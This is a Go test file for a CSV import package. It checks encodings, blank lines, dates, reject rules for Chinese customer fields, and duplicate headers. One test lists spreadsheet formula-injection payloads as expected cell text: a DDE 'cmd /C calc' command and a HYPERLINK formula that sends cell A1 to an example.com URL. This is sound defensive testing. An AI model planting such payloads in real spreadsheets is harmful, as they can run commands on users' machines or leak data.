package sheet

import (
	"encoding/json"
	"errors"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// TestExpectedFiles reads every table of the collection and compares counts, lines and cells.
func TestExpectedFiles(t *testing.T) {
	dir := dataDir(t)
	for name, want := range expectations(t, dir) {
		t.Run(name, func(t *testing.T) {
			r := openFile(t, filepath.Join(dir, name), Options{})
			rows := readAll(t, r)
			if n := want.Rows + want.DataRows - len(want.BlankLines); n > 0 && len(rows) != n {
				t.Errorf("%d records, want %d", len(rows), n)
			}
			checkFormat(t, r.Format(), want)
			if diff := cmp.Diff(want.BlankLines, notice(r, NoticeBlankRows).Lines); diff != "" {
				t.Errorf("blank lines (-want +got):\n%s", diff)
			}
			checkCells(t, r, rows, want)
		})
	}
}

func checkFormat(t *testing.T, f Format, want expectation) {
	t.Helper()
	encoding, bom := strings.CutSuffix(want.Encoding, " with BOM")
	if encoding != "" && (f.Encoding != encoding || f.BOM != bom) {
		t.Errorf("encoding %s (mark %t), want %s", f.Encoding, f.BOM, want.Encoding)
	}
	if want.Delimiter != "" && string(f.Delimiter) != want.Delimiter {
		t.Errorf("delimiter %q, want %q", f.Delimiter, want.Delimiter)
	}
}

func checkCells(t *testing.T, r *Reader, rows []Row, want expectation) {
	t.Helper()
	for line, cells := range want.Check {
		n, err := strconv.Atoi(line)
		if err != nil {
			t.Fatal(err)
		}
		i := slices.IndexFunc(rows, func(row Row) bool { return row.Line == n })
		if i < 0 {
			t.Errorf("no record in line %d", n)
			continue
		}
		got := byHeader(r, rows[i])
		for header, cell := range cells {
			if got[header] != cell {
				t.Errorf("line %d, %s: %q, want %q", n, header, got[header], cell)
			}
		}
	}
	var records []map[string]string
	if json.Unmarshal(want.Expect, &records) != nil || len(records) == 0 || records[0]["in"] != "" {
		return
	}
	for i, rec := range records {
		for k, v := range rec {
			rec[k] = strings.ReplaceAll(v, "\r\n", "\n") // as the CSV reader normalises line ends
		}
		if diff := cmp.Diff(rec, byHeader(r, rows[i])); diff != "" {
			t.Errorf("record %d (-want +got):\n%s", i+1, diff)
		}
	}
}

func TestDatesOfTheCollection(t *testing.T) {
	dir := dataDir(t)
	var cases []struct {
		Line int
		In   string
		Out  *string
	}
	if err := json.Unmarshal(expectations(t, dir)["dates_mixed.csv"].Expect, &cases); err != nil {
		t.Fatal(err)
	}
	r := openFile(t, filepath.Join(dir, "dates_mixed.csv"), Options{})
	cells := map[int]string{}
	for _, row := range readAll(t, r) {
		cells[row.Line] = byHeader(r, row)["创建时间"]
	}
	for _, c := range cases {
		if cells[c.Line] != c.In {
			t.Errorf("line %d reads %q, want %q", c.Line, cells[c.Line], c.In)
		}
		if c.In == "" {
			continue // an empty cell is the importer's to leave unset
		}
		got, err := ParseDate(c.In, AnyOrder, shanghai)
		switch e, _ := errors.AsType[*ValueError](err); {
		case c.Out == nil || strings.HasPrefix(*c.Out, "reject"):
			if e == nil || e.Code != BadDate {
				t.Errorf("%q: %v, %v; want %s", c.In, got, err, BadDate)
			}
		case strings.HasPrefix(*c.Out, "ambiguous"):
			if e == nil || e.Code != AmbiguousDate {
				t.Errorf("%q: %v, %v; want %s", c.In, got, err, AmbiguousDate)
			}
		case err != nil || got.String() != *c.Out:
			t.Errorf("%q: %v, %v; want %s", c.In, got, err, *c.Out)
		}
	}
}

// TestRejectsOfTheCollection maps bad_rows.csv as an importer would and compares the rejected lines.
func TestRejectsOfTheCollection(t *testing.T) {
	const reads万 = 33 // the collection lets the product choose whether 1.2万 is an amount
	dir := dataDir(t)
	var want []int
	for _, e := range expectations(t, dir)["bad_rows.csv"].Reject {
		if e.Line != reads万 {
			want = append(want, e.Line)
		}
	}
	r := openFile(t, filepath.Join(dir, "bad_rows.csv"), Options{})
	var rejected []int
	accepted := 0
	for _, row := range readAll(t, r) {
		if rejects(byHeader(r, row), row) {
			rejected = append(rejected, row.Line)
		} else {
			accepted++
		}
	}
	if diff := cmp.Diff(want, rejected); diff != "" {
		t.Errorf("rejected lines (-want +got):\n%s", diff)
	}
	if accepted != 32 {
		t.Errorf("%d accepted, want 32", accepted)
	}
}

func rejects(cells map[string]string, row Row) bool {
	_, phone := ParsePhone(cells["手机"], "CN")
	_, email := ParseEmail(cells["邮箱"])
	_, amount := ParseAmount(cells["预计金额"], "CNY", 2)
	_, date := ParseDate(cells["创建时间"], AnyOrder, time.UTC)
	name := len([]rune(cells["客户名称"]))
	return len(row.Problems) > 0 || name == 0 || name > 255 || errors.Join(phone, email, amount, date) != nil
}

func TestFormulasAreKeptAsTyped(t *testing.T) {
	r := openFile(t, filepath.Join(dataDir(t), "formula_cells.csv"), Options{})
	var got []string
	for _, row := range readAll(t, r) {
		got = append(got, byHeader(r, row)["备注"])
	}
	want := []string{"=cmd|' /C calc'!A0", `=HYPERLINK("https://example.com/?x="&A1,"点我")`, "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
		"=1+1", "\t=1+1", "\r=1+1", `"=1+1`, "-12.5", "+8619900001234", "@张三"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

func TestRepeatedHeadingsStayApart(t *testing.T) {
	r := openFile(t, filepath.Join(dataDir(t), "duplicate_headers.csv"), Options{})
	want := []Column{{"A", "客户名称"}, {"B", "手机"}, {"C", "手机"}, {"D", "邮箱"}, {"E", "备注"}, {"F", "备注"}, {"G", ""}}
	if diff := cmp.Diff(want, r.Columns()); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}
